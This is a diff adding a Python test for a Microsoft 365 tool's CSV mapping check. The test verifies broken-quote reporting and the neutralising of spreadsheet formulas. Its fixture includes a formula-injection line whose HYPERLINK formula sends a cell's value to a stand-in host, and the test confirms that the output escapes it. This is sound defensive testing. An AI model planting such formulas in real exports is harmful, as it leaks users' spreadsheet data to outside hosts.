@@ -93,3 +93,39 @@ def test_partner_info_include_secret_refuses_a_symlink_out(
     out = tmp_path / "real.md"
     ok = m365(sim.url, "partner-info", "--include-secret", "--out", str(out), "--yes")
     assert ok.code == ExitCode.OK and mode(out) == 0o600 and password in out.read_text(encoding="utf-8")
+
+
+def test_mapping_check_reports_a_broken_quote_on_its_row_and_neutralises_formulas(
+    sim: SimulatedTenant, tmp_path: Path
+) -> None:
+    import csv
+    import json
+
+    from tests.test_mapping import config_file
+
+    domain = "contoso.onmicrosoft.com"
+    mapping = tmp_path / "whatsapp.csv"
+    mapping.write_text(
+        "Phone,Mailbox\n"
+        f"+14155550101,adele.vance@{domain}\n"  # 2: mapped
+        f'"+14155550102,diego.siciliani@{domain}\n'  # 3: a stray quote
+        f"+14155550103,lee.gu@{domain}\n"  # 4: still its own row
+        '=HYPERLINK("http://x.example/?"&A1),@SUM(1+1)\n',  # 5: formulas from the file
+        encoding="utf-8",
+    )
+    out = tmp_path / "checked.csv"
+    run = m365(
+        sim.url, "-o", "json", "mapping", "check", str(mapping), "--source", "whatsapp", "--out", str(out),
+        config=config_file(tmp_path),
+    )  # fmt: skip
+    assert run.code == ExitCode.CHANGES, run.stdout + run.stderr
+    data = json.loads(run.stdout)["data"]
+    assert data["rows"] == 4
+    problems = {p["line"]: p for p in data["problems"]}
+    assert "broken quote" in problems[3]["reason"]
+    assert 4 not in problems  # the row after the stray quote is read on its own
+    assert mode(out) == 0o600
+    with out.open(newline="", encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "@")], cells
+    assert any(c.startswith("'=HYPERLINK") for c in cells)
